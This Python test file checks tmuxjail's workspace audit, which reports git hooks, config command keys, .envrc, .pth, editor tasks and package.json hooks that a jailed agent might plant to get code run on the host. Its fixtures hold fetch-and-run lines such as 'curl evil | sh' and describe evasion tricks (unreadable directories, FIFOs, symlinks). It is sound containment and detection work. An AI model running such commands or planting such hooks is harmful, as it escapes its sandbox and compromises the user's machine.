"""The audit walk (tmuxjail/scan.py) against what a jailed agent plants in its workspace for the
host to run or trust later, and the finding the user must get for each: the survivors of scan's
mutation run (issue 29), each written as the plant and its finding. Pure file-system work in a
temporary directory: no jail is needed, the walk runs on the host."""

from __future__ import annotations

import errno
import json
import os
import pathlib
import shutil
import socket
import subprocess
import tempfile
import types

import pytest

from tmuxjail import scan


def _w(p, text="", mode=0o644):
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text)
    p.chmod(mode)
    return p


def _repo(top, config):
    """A git repository at top (its .git directory) with this config."""
    _w(top / ".git" / "HEAD", "ref: refs/heads/main\n")
    (top / ".git" / "objects").mkdir()
    _w(top / ".git" / "config", config)
    return top / ".git"


def _found(s, ws):
    return {(os.path.relpath(f["path"], ws), f["kind"], f.get("entry"), f["detail"]) for f in s.findings}


def _kinds(s, ws):
    return {(os.path.relpath(f["path"], ws), f["kind"]) for f in s.findings}


# -- what a repository's config points at inside the workspace ---------------------------------

def test_a_config_pointing_git_at_workspace_files_reports_each_file_git_would_run(tmp_path):
    """The agent points git at files of its own in the worktree (a hooks directory, an include,
    an fsmonitor program two levels down): the user is shown each file, under the entry that
    says what runs it, not just the config line."""
    ws = tmp_path / "ws"
    git = _repo(ws / "repo", "[core]\n\thooksPath = .githooks\n\tfsmonitor = tools/bin/mon.sh\n"
                             "[include]\n\tpath = ../team.inc\n\tpath = inside.inc\n")
    _w(ws / "repo/.githooks/pre-commit", "#!/bin/sh\ncurl evil\n", 0o755)
    _w(ws / "repo/tools/bin/mon.sh", "#!/bin/sh\n", 0o755)
    _w(ws / "repo/team.inc", "[core]\n\tpager = less\n")
    _w(git / "inside.inc", "")  # inside the git directory: the directory itself is what counts
    cfg = str(git / "config")
    found = _found(scan.scan([str(ws)]), ws)
    assert ("repo/.git", "git-repo", None, "git directory") in found, found
    assert ("repo/.githooks/pre-commit", "git-hook", "git-hooks-path", f"in core.hookspath of {cfg}") in found, found
    assert ("repo/tools/bin/mon.sh", "git-command", "git-command-path", f"named by core.fsmonitor in {cfg}") in found
    assert ("repo/team.inc", "git-include", "git-include", f"named by include.path in {cfg}") in found, found
    targets = {p for p, _, entry, _ in found if entry in ("git-hooks-path", "git-command-path", "git-include")}
    assert targets == {"repo/.githooks/pre-commit", "repo/tools/bin/mon.sh", "repo/team.inc"}, targets


def test_a_bare_repository_is_named_bare_and_its_relative_paths_name_no_worktree(tmp_path):
    ws = tmp_path / "ws"
    _w(ws / "store.git/HEAD", "ref: refs/heads/main\n")
    (ws / "store.git/objects").mkdir()
    _w(ws / "store.git/config", "[core]\n\thooksPath = hooks2\n")
    _w(ws / "hooks2/post-update", "#!/bin/sh\n", 0o755)
    found = _found(scan.scan([str(ws)]), ws)
    assert ("store.git", "git-repo", None, "git directory (bare, submodule or worktree)") in found, found
    assert not any(p.startswith("hooks2") for p, *_ in found), found


def test_a_hooks_path_not_there_yet_still_leaves_the_rest_of_the_repository_reported(tmp_path):
    """The agent names a hooks directory it will make later: nothing to show there yet, but the
    config's command keys and the repository's own hooks are still reported."""
    ws = tmp_path / "ws"
    git = _repo(ws / "repo", "[core]\n\thooksPath = later/hooks\n\tfsmonitor = \"touch /tmp/x\"\n")
    _w(git / "hooks/post-checkout", "#!/bin/sh\n", 0o755)
    found = _kinds(scan.scan([str(ws)]), ws)
    assert {("repo/.git/config", "git-config"), ("repo/.git/hooks/post-checkout", "git-hook")} <= found, found


def test_a_config_pointing_into_a_workspace_that_is_gone_is_still_reported(tmp_path):
    """A session's second workspace is gone (removed since); a repository of the first points its
    hooks there: the command keys of that config are still reported."""
    ws, gone = tmp_path / "ws", tmp_path / "gone"
    _repo(ws / "repo", f"[core]\n\thooksPath = {gone}/hooks\n\tfsmonitor = \"touch /tmp/x\"\n")
    s = scan.scan([str(ws), str(gone)])
    details = {f["detail"] for f in s.findings if f["kind"] == "git-config"}
    assert details == {f"core.hookspath = {gone}/hooks", "core.fsmonitor = touch /tmp/x"}, details


def test_a_changed_line_git_cannot_parse_is_a_changed_finding(tmp_path):
    """A config line the parser does not understand is shown to be read by hand; rewriting it
    (git may read it its own way) must change the finding's signature, or the audit calls it
    unchanged."""
    ws = tmp_path / "ws"
    git = _repo(ws / "repo", "[core]\n\tbare = false\n[x\n")

    def sig():
        [f] = [f for f in scan.scan([str(ws)]).findings if f["detail"] == "line 3 not understood (check it by hand)"]
        return f["id"], f["sig"]
    first = sig()
    (git / "config").write_text("[core]\n\tbare = false\n[y\n")
    second = sig()
    assert first[0] == second[0] and first[1] != second[1]


def test_a_config_of_exactly_the_parse_limit_is_parsed_and_a_larger_one_does_not_hide_the_worktree_config(tmp_path):
    ws = tmp_path / "ws"
    head = "[core]\n\tfsmonitor = \"touch /tmp/x\"\n#"
    git = _repo(ws / "repo", head + "x" * (scan.MAX_PARSE - len(head) - 1) + "\n")
    assert len((git / "config").read_text()) == scan.MAX_PARSE
    found = _found(scan.scan([str(ws)]), ws)
    assert ("repo/.git/config", "git-config", None, "core.fsmonitor = touch /tmp/x") in found, found
    (git / "config").write_text(head + "x" * scan.MAX_PARSE)
    _w(git / "config.worktree", "[core]\n\tpager = \"sh -c evil\"\n")
    found = _found(scan.scan([str(ws)]), ws)
    assert {("repo/.git/config", "git-config", None, "not parsed (too large or unreadable): check it by hand"),
            ("repo/.git/config.worktree", "git-config", None, "core.pager = sh -c evil")} <= found, found


def test_a_path_through_a_fifo_neither_hangs_nor_stops_the_walk(tmp_path):
    """The agent names a hooks directory below a FIFO it planted: opening it must not wait for a
    writer (the walk would hang and the audit never answer)."""
    ws = tmp_path / "ws"
    _repo(ws / "repo", "[core]\n\thooksPath = trap/hooks\n")
    s = scan.scan([str(ws / "repo/.git/config")])  # a workspace that is not a directory is not opened as one
    assert s.capped == [f"{ws / 'repo/.git/config'}: not scanned (Not a directory)"] and not s.findings
    os.mkfifo(ws / "repo/trap")
    found = _kinds(scan.scan([str(ws)]), ws)
    assert found == {("repo/.git", "git-repo"), ("repo/.git/config", "git-config")}, found


# -- hooks --------------------------------------------------------------------------------------

def test_hooks_reported_are_those_git_would_run(tmp_path):
    """git runs an executable hook, or whatever a hook symlink points at; it never runs a
    `.sample`, nor a hook without its x bit."""
    ws = tmp_path / "ws"
    git = _repo(ws / "repo", "[core]\n\tbare = false\n")
    _w(git / "hooks/pre-commit", "#!/bin/sh\n", 0o755)
    _w(git / "hooks/pre-push.sample", "#!/bin/sh\n", 0o755)
    _w(git / "hooks/post-merge", "#!/bin/sh\n", 0o644)
    _w(tmp_path / "outside/hook", "#!/bin/sh\n", 0o755)
    os.symlink(tmp_path / "outside/hook", git / "hooks/post-checkout")
    hooks = {(os.path.basename(f["path"]), f["detail"]) for f in scan.scan([str(ws)]).findings if f["kind"] == "git-hook"}
    assert hooks == {("pre-commit", "executable hook"),
                     ("post-checkout", f"hook is a symlink -> {tmp_path / 'outside/hook'}")}, hooks


def test_git_metadata_swapped_for_symlinks_is_reported_once_each_for_what_it_is(tmp_path):
    """The agent replaces a repository's config, hooks and commondir with links to files of its
    own: each is named for what git does with it, once (not also as a config it could not read)."""
    ws = tmp_path / "ws"
    git = _repo(ws / "repo", "")
    (git / "config").unlink()
    _w(ws / "mine/config", "[core]\n\tfsmonitor = evil\n")
    _w(ws / "mine/commondir", "../../mine\n")
    (ws / "mine/hooks").mkdir()
    for name, target in (("config", "mine/config"), ("config.worktree", "mine/config"), ("hooks", "mine/hooks"),
                         ("commondir", "mine/commondir")):
        os.symlink(ws / target, git / name)
    found = {(os.path.basename(p), k, d) for p, k, _, d in _found(scan.scan([str(ws)]), ws) if p.startswith("repo/.git/")}
    assert found == {("config", "git-config", f"a symlink -> {ws / 'mine/config'}"),
                     ("config.worktree", "git-config", f"a symlink -> {ws / 'mine/config'}"),
                     ("hooks", "git-hook", f"a symlink -> {ws / 'mine/hooks'}"),
                     ("commondir", "git-commondir", f"a symlink -> {ws / 'mine/commondir'}")}, found


def test_a_target_behind_a_link_is_never_followed_out_of_the_workspace(tmp_path):
    """The agent points core.hooksPath through a directory link, includes a file through a link,
    and puts a link in a hooks directory: the walk names the links and reads nothing through
    them (what they point at outside can change under the same finding)."""
    ws, out = tmp_path / "ws", tmp_path / "outside"
    _w(out / "hooks/pre-commit", "#!/bin/sh\n", 0o755)
    script = _w(out / "script", "#!/bin/sh\n", 0o755)
    _repo(ws / "repo", "[core]\n\thooksPath = lnk/hooks\n[include]\n\tpath = ../inc\n"
                       "[diff \"x\"]\n\ttextconv = tools/conv\n")
    os.symlink(out, ws / "repo/lnk")
    os.symlink(out / "script", ws / "repo/inc")
    _w(ws / "repo/tools/conv/real", "#!/bin/sh\n", 0o755)  # a directory git cannot run: its files named
    os.symlink(out / "script", ws / "repo/tools/conv/linked")

    def targets():
        return {os.path.relpath(f["path"], ws): f["sig"] for f in scan.scan([str(ws)]).findings
                if f.get("entry", "").startswith("git-")}
    first = targets()
    assert set(first) == {"repo/tools/conv/real", "repo/tools/conv/linked"}, first
    script.write_text("#!/bin/sh\ncurl evil | sh\n")
    assert targets() == first


def test_git_metadata_found_only_where_git_would_look(tmp_path):
    """A worktree's git directory (HEAD and commondir, no objects) is a repository; a project's
    own `objects/` directory beside a file called HEAD is not."""
    ws = tmp_path / "ws"
    _w(ws / "wt/HEAD", "ref: refs/heads/x\n")
    _w(ws / "wt/commondir", "../../.git\n")
    _w(ws / "game/HEAD", "the head sprite\n")
    _w(ws / "game2/objects/chair.obj", "v 0 0 0\n")
    _w(ws / "linked/.git", "gitdir: /elsewhere/.git/worktrees/linked\n")  # a linked worktree or a submodule
    found = _found(scan.scan([str(ws)]), ws)
    assert {(p, k) for p, k, *_ in found} == {("wt", "git-repo"), ("wt/commondir", "git-commondir"),
                                              ("linked/.git", "git-repo")}, found
    assert ("linked/.git", "git-repo", None, "git file: gitdir: /elsewhere/.git/worktrees/linked") in found


def test_a_worktree_config_is_read_when_the_config_is_not_a_file(tmp_path):
    ws = tmp_path / "ws"
    git = _repo(ws / "repo", "")
    (git / "config").unlink()
    (git / "config").mkdir()
    _w(git / "config.worktree", "[core]\n\tfsmonitor = \"touch /tmp/x\"\n")
    found = _found(scan.scan([str(ws)]), ws)
    assert ("repo/.git/config.worktree", "git-config", None, "core.fsmonitor = touch /tmp/x") in found, found


def test_version_control_directories_swapped_for_links_are_named_for_their_tool(tmp_path):
    ws = tmp_path / "ws"
    (tmp_path / "elsewhere").mkdir()
    ws.mkdir()
    for name in (".git", ".hg", ".jj", ".sl"):
        os.symlink(tmp_path / "elsewhere", ws / name)
    found = {(p, k) for p, k in _kinds(scan.scan([str(ws)]), ws) if k != "symlink-out"}
    assert found == {(".git", "git-repo"), (".hg", "hg"), (".jj", "jj"), (".sl", "sl")}, found


def test_links_named_like_git_metadata_outside_a_repository_are_nothing(tmp_path):
    ws = tmp_path / "ws"
    _w(ws / "data", "x")
    for name in ("config", "hooks", "commondir", "config.worktree"):
        os.symlink("data", ws / name)
    git = _repo(ws / "repo", "")
    os.symlink("HEAD", git / "description")  # git's own names, but none that runs or points anything
    assert _kinds(scan.scan([str(ws)]), ws) == {("repo/.git", "git-repo")}


def test_a_catalogue_directory_inside_another_counts_as_the_outer_ones(tmp_path):
    """.vscode/ trusts every file in it: a nested name of another entry is one of its files."""
    ws = tmp_path / "ws"
    _w(ws / ".vscode/.claude/settings.json", "{}")
    found = _found(scan.scan([str(ws)]), ws)
    assert {(p, k, e) for p, k, e, _ in found} == {(".vscode", "editor", "vscode"),
                                                   (".vscode/.claude/settings.json", "editor", "vscode")}, found


def test_a_merge_tool_path_is_a_command_git_runs_not_an_include(tmp_path):
    ws = tmp_path / "ws"
    _repo(ws / "repo", "[mergetool \"evil\"]\n\tpath = tools/merge.sh\n")
    _w(ws / "repo/tools/merge.sh", "#!/bin/sh\n", 0o755)
    found = {(p, k, entry) for p, k, entry, _ in _found(scan.scan([str(ws)]), ws)}
    assert ("repo/tools/merge.sh", "git-command", "git-command-path") in found, found


def test_a_trusted_file_padded_past_the_read_size_still_changes_when_its_end_does(tmp_path):
    """The agent pads .envrc past what the walk reads of it and changes the end: the finding must
    change (size and ctime stand for the unread rest). Rewritten with the same text: unchanged."""
    ws = tmp_path / "ws"
    envrc = _w(ws / ".envrc", "# " + "x" * scan.MAX_READ + "\n")
    small = _w(ws / ".envrc.local", "export A=1\n")

    def sigs():
        return {os.path.basename(f["path"]): f["sig"] for f in scan.scan([str(ws)]).findings}
    first = sigs()
    with open(envrc, "a") as f:
        f.write("curl evil | sh\n")
    small.write_text("export A=1\n")
    second = sigs()
    assert second[".envrc"] != first[".envrc"] and second[".envrc.local"] == first[".envrc.local"]


def test_a_file_of_exactly_the_read_size_is_read_whole_and_unchanged_when_only_touched(tmp_path):
    """.envrc of exactly MAX_READ bytes is read whole: its finding stays the same through a chmod
    (a new ctime), as a smaller one's does."""
    ws = tmp_path / "ws"
    envrc = _w(ws / ".envrc", "#" * (scan.MAX_READ - 1) + "\n")

    def sig():
        [f] = scan.scan([str(ws)]).findings
        return f["sig"]
    first, ctime = sig(), envrc.stat().st_ctime_ns
    while envrc.stat().st_ctime_ns == ctime:  # the ctime clock ticks coarsely
        envrc.chmod(0o600)
        envrc.chmod(0o644)
    assert sig() == first


def test_a_pth_file_deep_in_a_virtualenv_is_reported(tmp_path):
    """Python runs the .pth files of site-packages at every start: the walk goes into a
    virtualenv's site-packages however deep below .venv it lies."""
    ws = tmp_path / "ws"
    _w(ws / ".venv/lib/python3.11/site-packages/evil.pth", "import os; os.system('curl evil')\n")
    _w(ws / ".venv/lib/python3.11/site-packages/pkg/mod.py", "x = 1\n")
    found = _kinds(scan.scan([str(ws)]), ws)
    assert (".venv/lib/python3.11/site-packages/evil.pth", "python-pth") in found, found


# -- setuid, setgid, hard links -------------------------------------------------------------------

def test_setuid_setgid_and_hard_links_are_each_named_for_what_they_are(tmp_path):
    ws = tmp_path / "ws"
    _w(ws / "suid", "", 0o755).chmod(0o4755)
    _w(ws / "sgid", "", 0o755).chmod(0o2755)
    _w(ws / "a", "data")
    os.link(ws / "a", ws / "b")  # one name may be outside the workspace
    _w(ws / "config.toml", "", 0o755).chmod(0o4755)  # a catalogue name in the wrong place: still a file
    _w(ws / "sub/package.json", "{}", 0o755).chmod(0o4755)  # a package.json without hook keys: still a file
    repo = _repo(ws / "repo", "")
    _w(repo / "objects/pack/p.pack", "x")
    os.link(repo / "objects/pack/p.pack", repo / "objects/pack/q.pack")  # git's own (a local clone)
    found = _kinds(scan.scan([str(ws)]), ws)
    stat_kinds = {x for x in found if x[1] in scan.STAT_KINDS}
    assert stat_kinds == {("suid", "setuid"), ("sgid", "setgid"), ("a", "hardlink"), ("b", "hardlink"),
                          ("config.toml", "setuid"), ("sub/package.json", "setuid")}, found


def test_a_trusted_name_is_also_checked_for_setuid_and_other_names(tmp_path):
    """A catalogue name is no cover: a hard-linked .envrc (writing it writes its other name) or a
    setuid package.json gets its own finding beside the catalogue's."""
    ws = tmp_path / "ws"
    _w(ws / ".envrc", "export A=1\n")
    os.link(ws / ".envrc", ws / "elsewhere")
    _w(ws / "package.json", json.dumps({"husky": {"hooks": {"pre-commit": "x"}}}), 0o755).chmod(0o4755)
    found = _found(scan.scan([str(ws)]), ws)
    assert {(p, k) for p, k, *_ in found} == {(".envrc", "direnv"), (".envrc", "hardlink"), ("elsewhere", "hardlink"),
                                              ("package.json", "hook-manager"), ("package.json", "setuid")}, found
    assert (".envrc", "direnv", "envrc", "11 characters") in found


def test_files_gone_while_the_walk_was_below_them_leave_the_rest_checked(tmp_path, monkeypatch):
    """The jail deletes files while the walk is in a subdirectory, after it listed their own: the
    files left beside them are still checked for setuid bits. (The walk asks the clock at every
    directory: that is where the deletion is made.)"""
    ws = tmp_path / "ws"
    for i in range(20):
        _w(ws / f"gone{i:02}", "x")
        _w(ws / f"suid{i:02}", "", 0o755).chmod(0o4755)
    (ws / "sub").mkdir()

    calls = []

    def monotonic():
        calls.append(1)
        if len(calls) == 2:  # the walk enters sub/, having listed the top
            for i in range(20):
                (ws / f"gone{i:02}").unlink()
        return 0.0
    monkeypatch.setattr(scan, "time", types.SimpleNamespace(monotonic=monotonic))
    s = scan.scan([str(ws)], deadline=1.0)
    assert len(calls) == 2 and not (ws / "gone00").exists()
    assert {p for p, k in _kinds(s, ws) if k == "setuid"} == {f"suid{i:02}" for i in range(20)}


def test_the_stat_budget_is_spent_on_exactly_its_count(tmp_path, monkeypatch):
    monkeypatch.setattr(scan, "MAX_ENTRIES", 3)
    ws = tmp_path / "ws"
    for i in range(3):
        _w(ws / f"s{i}", "", 0o755).chmod(0o4755)
    s = scan.scan([str(ws)])
    assert not s.capped and len([f for f in s.findings if f["kind"] == "setuid"]) == 3, (s.capped, s.findings)
    _w(ws / "s3", "", 0o755).chmod(0o4755)
    s = scan.scan([str(ws)])
    assert s.stated == 3 and len([f for f in s.findings if f["kind"] == "setuid"]) == 3
    assert s.capped == ["entry cap: setuid, setgid and hard links checked on the first 3 files only"]


def test_dependency_files_spend_none_of_the_stat_budget(tmp_path, monkeypatch):
    """A node_modules full of files is looked into for names only: it cannot use up the lstat
    budget and so hide a setuid file planted beside it."""
    monkeypatch.setattr(scan, "MAX_ENTRIES", 5)
    ws = tmp_path / "ws"
    for i in range(10):
        _w(ws / "node_modules" / f"f{i}", "x")
    _w(ws / "node_modules/evil/.envrc", "x")
    _w(ws / "zz-suid", "", 0o755).chmod(0o4755)
    s = scan.scan([str(ws)])
    assert not s.capped, s.capped
    assert {("zz-suid", "setuid"), ("node_modules/evil/.envrc", "direnv")} <= _kinds(s, ws)
    assert s.skipped == [str(ws / "node_modules")]  # the audit says where it looked for names only


# -- catalogue names ------------------------------------------------------------------------------

def test_an_editor_directory_and_every_file_in_it_are_reported(tmp_path):
    ws = tmp_path / "ws"
    _w(ws / ".vscode/tasks.json", '{"tasks": [{"runOn": "folderOpen"}]}')
    _w(ws / ".vscode/settings.json", "{}")
    _w(ws / ".hg/hgrc", "[hooks]\nupdate = evil\n")
    _w(ws / ".hg/store/data", "x")  # .hg/ counts only its hgrc
    found = _kinds(scan.scan([str(ws)]), ws)
    assert {(".vscode", "editor"), (".vscode/tasks.json", "editor"), (".vscode/settings.json", "editor"),
            (".hg", "hg"), (".hg/hgrc", "hg")} <= found, found
    assert (".hg/store/data", "hg") not in found


def test_package_json_counts_for_its_hook_keys_only(tmp_path):
    ws = tmp_path / "ws"
    pj = _w(ws / "package.json", json.dumps({"name": "x", "husky": {"hooks": {"pre-commit": "curl evil", "a": "b"}}}))
    _w(ws / "plain/package.json", json.dumps({"name": "y", "scripts": {"test": "x"}}))
    _w(ws / "list/package.json", json.dumps(["husky"]))
    _w(ws / "broken/package.json", '{"husky": ')
    _w(ws / "node_modules/dep/package.json", json.dumps({"husky": {}}))  # a dependency's own: not theirs to change
    _w(ws / "node_modules/package.json", json.dumps({"husky": {}}))

    def hits():
        return {os.path.relpath(f["path"], ws): f for f in scan.scan([str(ws)]).findings if f["kind"] == "hook-manager"}
    first = hits()
    assert set(first) == {"package.json"}, first
    assert first["package.json"]["detail"].startswith("keys husky, simple-git-hooks: ")
    pj.write_text(json.dumps({"husky": {"hooks": {"a": "b", "pre-commit": "curl evil"}}, "name": "x", "v": 2}))
    assert hits()["package.json"]["sig"] == first["package.json"]["sig"]  # reformatted, same hooks
    pj.write_text(json.dumps({"husky": {"hooks": {"a": "b", "pre-commit": "curl worse"}}}))
    assert hits()["package.json"]["sig"] != first["package.json"]["sig"]


# -- symlinks -------------------------------------------------------------------------------------

def test_symlinks_out_are_reported_and_those_staying_inside_are_not(tmp_path):
    ws = tmp_path / "ws"
    _w(ws / "data", "x")
    _w(tmp_path / "ws2/secret", "x")  # a sibling whose name starts with the workspace's
    os.symlink("data", ws / "in")
    os.symlink(".", ws / "self")
    os.symlink(tmp_path / "ws2/secret", ws / "out")
    found = _kinds(scan.scan([str(ws)]), ws)
    assert {p for p, k in found if k == "symlink-out"} == {"out"}, found


def test_a_trusted_name_as_a_symlink_within_the_workspace_is_still_reported(tmp_path):
    ws = tmp_path / "ws"
    _w(ws / "stash/envrc", "curl evil\n")
    (ws / "stash/vscode").mkdir()
    os.symlink("stash/envrc", ws / ".envrc")
    os.symlink("stash/vscode", ws / ".vscode")
    found = _found(scan.scan([str(ws)]), ws)
    assert (".envrc", "direnv", "envrc", "a symlink -> stash/envrc") in found, found
    assert (".vscode", "editor", "vscode", "a symlink -> stash/vscode") in found, found


# -- bounds: what stops the walk, and what must not ---------------------------------------------

def test_a_workspace_that_cannot_be_opened_does_not_end_the_walk(tmp_path):
    ws = tmp_path / "ws"
    _w(ws / ".envrc", "x")
    s = scan.scan([str(tmp_path / "gone"), str(ws)])
    assert (".envrc", "direnv") in _kinds(s, ws)
    assert s.capped == [f"{tmp_path / 'gone'}: not scanned (No such file or directory)"]


def test_a_directory_whose_listing_fails_is_said_and_the_walk_goes_on(tmp_path, monkeypatch):
    """A directory opened but not listable (the kernel's error, here that of a /proc directory
    whose process ended between the open and the listing) is a reason the walk is incomplete,
    and the next workspace is still walked."""
    ws = tmp_path / "ws"
    _w(ws / ".envrc", "x")
    proc = subprocess.Popen(["sleep", "600"])
    gone = f"/proc/{proc.pid}/fd"

    def monotonic():  # asked between the open of a directory and its listing
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        return 0.0
    monkeypatch.setattr(scan, "time", types.SimpleNamespace(monotonic=monotonic))
    try:
        s = scan.scan([gone, str(ws)], deadline=1.0)
    finally:
        proc.kill()
        proc.wait()
    assert s.capped == [f"{gone}: not listed (No such file or directory)"], s.capped
    assert _kinds(s, ws) == {(".envrc", "direnv")}


def test_the_time_limit_is_said_once_and_a_deadline_of_now_is_not_past(tmp_path, monkeypatch):
    a, b = tmp_path / "a", tmp_path / "b"
    _w(a / ".envrc", "x")
    _w(b / ".envrc", "x")
    monkeypatch.setattr(scan, "time", types.SimpleNamespace(monotonic=lambda: 1000.0))
    late = scan.scan([str(a), str(b)], deadline=999.0)
    assert late.capped == [f"time limit: stopped at {a}"] and not late.findings
    on_time = scan.scan([str(a), str(b)], deadline=1000.0)
    assert not on_time.capped and len(on_time.findings) == 2


def test_listing_stops_at_its_cap(tmp_path, monkeypatch):
    """A jail that plants millions of names costs the walk the cap's worth of listing, no more."""
    monkeypatch.setattr(scan, "MAX_LISTED", 30)
    for i in range(200):
        _w(tmp_path / f"f{i}", "x")
    s = scan.scan([str(tmp_path)])
    assert s.entries == 31 and s.capped == ["entry cap: stopped after listing 30 names"], (s.entries, s.capped)
    exact = tmp_path / "exact"  # 30 names in all: every one listed, the walk is complete
    for i in range(29):
        _w(exact / f"f{i}", "x")
    s = scan.scan([str(exact)])
    assert s.entries == 29 and not s.capped
    _w(exact / "f29", "x")
    s = scan.scan([str(exact)])
    assert s.entries == 30 and not s.capped, s.capped


def _as_nobody(fn):
    """Run fn() (returning JSON) in a child with no root privilege: as root the walk opens every
    directory whatever its mode, as the ordinary user who runs tmuxjail it does not."""
    if os.geteuid() != 0:
        return fn()
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        try:
            os.close(r)
            os.setgroups([])
            os.setgid(65534)
            os.setuid(65534)
            os.write(w, json.dumps(fn()).encode())
        finally:
            os._exit(0)
    os.close(w)
    with os.fdopen(r, "rb") as f:
        out = f.read()
    os.waitpid(pid, 0)
    assert out, "the child walk wrote nothing"
    return json.loads(out)


@pytest.fixture
def shared_tmp():
    """A directory the child walking as nobody can reach (pytest's own is private to root)."""
    d = tempfile.mkdtemp(prefix="tj-kills-scan-")
    os.chmod(d, 0o711)
    for p in pathlib.Path(d).parents:
        if not os.stat(p).st_mode & 0o001:
            shutil.rmtree(d)
            pytest.skip(f"{p} is not searchable by others: a walk as nobody cannot reach a workspace there")
    yield pathlib.Path(d)
    for p, dirs, _ in os.walk(d):
        for x in dirs:
            os.chmod(os.path.join(p, x), 0o755)
    shutil.rmtree(d)


def test_a_directory_the_user_cannot_open_does_not_end_the_walk(shared_tmp):
    """The agent chmods a directory to 000: the walk cannot look inside it, and must still go on
    to the direnv files planted beside it."""
    ws = shared_tmp / "ws"
    for name in ("a", "b", "c", "d"):
        (ws / name).mkdir(parents=True)
    for name in ("b", "d"):
        _w(ws / name / ".envrc", "x")
    if os.geteuid() == 0:
        for p, dirs, files in os.walk(ws):
            for x in (p, *(os.path.join(p, n) for n in dirs + files)):
                os.chown(x, 65534, 65534)
    for name in ("a", "c"):
        (ws / name).chmod(0)
    found = _as_nobody(lambda: sorted(os.path.relpath(f["path"], ws) for f in scan.scan([str(ws)]).findings))
    assert found == ["b/.envrc", "d/.envrc"], found


def _plant_unreadable(ws):
    _w(ws / ".envrc", "curl evil | sh\n")
    git = _repo(ws / "repo", "")
    _w(git / "hooks/pre-commit", "#!/bin/sh\n", 0o755)
    sub = git / "modules" / "sub"  # a submodule's git directory
    _w(sub / "HEAD", "ref: refs/heads/main\n")
    (sub / "objects").mkdir()
    _w(sub / "config", "[core]\n\tfsmonitor = \"touch /tmp/x\"\n")
    return git


def test_a_trusted_file_or_hooks_the_user_cannot_read_are_still_reported(shared_tmp):
    """The agent chmods .envrc and a repository's hooks to 000 to keep the audit out: .envrc is
    still named (its content unread), and the walk goes on past the hooks to the submodule's
    command keys."""
    ws = shared_tmp / "ws"
    git = _plant_unreadable(ws)
    git2 = _repo(ws / "repo2", "")  # hooks listable but not searchable: their lstat fails
    _w(git2 / "hooks/pre-commit", "#!/bin/sh\n", 0o755)
    _w(git2 / "modules/sub/HEAD", "ref: refs/heads/main\n")
    (git2 / "modules/sub/objects").mkdir()
    _w(git2 / "modules/sub/config", "[core]\n\tsshCommand = evil\n")
    if os.geteuid() == 0:
        for p, dirs, files in os.walk(ws):
            for x in (p, *(os.path.join(p, n) for n in dirs + files)):
                os.chown(x, 65534, 65534)
    (ws / ".envrc").chmod(0)
    (git / "hooks").chmod(0)
    (git2 / "hooks").chmod(0o400)
    found = _as_nobody(lambda: sorted([os.path.relpath(f["path"], ws), f["kind"], f["detail"]]
                                      for f in scan.scan([str(ws)]).findings))
    assert [".envrc", "direnv", f"unreadable:{errno.EACCES}"] in found, found
    assert ["repo/.git/modules/sub/config", "git-config", "core.fsmonitor = touch /tmp/x"] in found, found
    assert ["repo2/.git/modules/sub/config", "git-config", "core.sshcommand = evil"] in found, found
    assert not any(p.startswith(("repo/.git/hooks", "repo2/.git/hooks")) for p, *_ in found)


def test_a_socket_under_a_trusted_name_is_still_reported(tmp_path, monkeypatch):
    """A socket cannot be opened (ENXIO): the name the host trusts is still shown."""
    ws = tmp_path / "ws"
    ws.mkdir()
    monkeypatch.chdir(ws)  # a socket path is short: bind it relative
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(".envrc")
        found = _found(scan.scan([str(ws)]), ws)
    assert found == {(".envrc", "direnv", "envrc", f"unreadable:{errno.ENXIO}")}, found


def test_a_trusted_file_whose_read_fails_is_reported_unreadable_not_a_crash(tmp_path):
    """A read that fails on a file already open (a failing disk's EIO; here an fd the kernel
    refuses to read from) is a finding the audit reports, never an exception out of the walk."""
    f = tmp_path / ".envrc"
    f.write_text("use nix\n")
    fd = os.open(f, os.O_WRONLY)
    try:
        text, digest = scan.Scan([str(tmp_path)]).read_fd(fd)
    finally:
        os.close(fd)
    assert text is None and digest == f"unreadable:{errno.EBADF}"
